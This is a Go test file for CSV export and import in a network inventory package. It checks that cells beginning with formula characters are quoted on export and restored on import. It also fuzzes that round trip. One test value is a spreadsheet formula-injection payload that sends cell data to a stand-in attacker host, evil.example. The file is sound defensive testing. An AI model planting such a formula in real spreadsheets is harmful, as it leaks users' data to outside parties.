package inventoryfile

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/unet-dev/unet"
)

// TestCSVFormulaCellsRoundTrip: cells a spreadsheet would run as formulas are
// exported behind a single quote, and import gives back the exact values,
// including values that really begin with a quote.
func TestCSVFormulaCellsRoundTrip(t *testing.T) {
	values := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1 555 0100", "-48V DC", "@SUM(A1:A9)",
		"\tindented", "\rcarriage", "'quoted'", "''twice", "'", "=", "plain", "a=b", "",
	}
	b := &unet.Bundle{}
	for i, v := range values {
		b.Nodes = append(b.Nodes, unet.NodeRecord{Name: "r" + string(rune('a'+i)), Vendor: "cisco", Model: v, AssetTag: v})
	}
	data, err := Encode("nodes", "csv", b)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	model := -1
	for i, c := range rows[0] {
		if c == "model" {
			model = i
		}
	}
	for i, v := range values {
		cell := rows[i+1][model]
		dangerous := v != "" && strings.ContainsRune("=+-@\t\r'", rune(v[0]))
		if dangerous && cell != "'"+v {
			t.Errorf("value %q exported as %q, want a single quote in front", v, cell)
		}
		if !dangerous && cell != v {
			t.Errorf("value %q exported as %q, want it unchanged", v, cell)
		}
	}
	got := &unet.Bundle{}
	if errs := Decode("nodes.csv", data, got); len(errs) > 0 {
		t.Fatalf("decode: %v", errs)
	}
	if len(got.Nodes) != len(values) {
		t.Fatalf("%d records back, want %d", len(got.Nodes), len(values))
	}
	for i, v := range values {
		if n := got.Nodes[i]; n.Model != v || n.AssetTag != v {
			t.Errorf("record %d: model %q, asset_tag %q; want %q", i+1, n.Model, n.AssetTag, v)
		}
	}
}

// TestCSVImportStripsOneQuote: hand-written files follow the same rule.
func TestCSVImportStripsOneQuote(t *testing.T) {
	got := &unet.Bundle{}
	in := "name,vendor,model\nr1,cisco,'=1+1\nr2,'cisco,''lit\n"
	if errs := Decode("nodes.csv", []byte(in), got); len(errs) > 0 {
		t.Fatalf("decode: %v", errs)
	}
	if got.Nodes[0].Model != "=1+1" || got.Nodes[1].Vendor != "cisco" || got.Nodes[1].Model != "'lit" {
		t.Fatalf("decoded %+v", got.Nodes)
	}
}

// FuzzCSVCell: restoring a neutralised cell gives the value back, and no
// neutralised cell begins with a formula character.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"", "=", "'", "''", "-1", "@x", "\t", "\r\n", "plain", "'=x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := neutraliseCell(s)
		if got := restoreCell(n); got != s {
			t.Fatalf("restore(neutralise(%q)) = %q", s, got)
		}
		if n != "" && strings.ContainsRune("=+-@\t\r", rune(n[0])) {
			t.Fatalf("neutralise(%q) = %q still begins with a formula character", s, n)
		}
	})
}
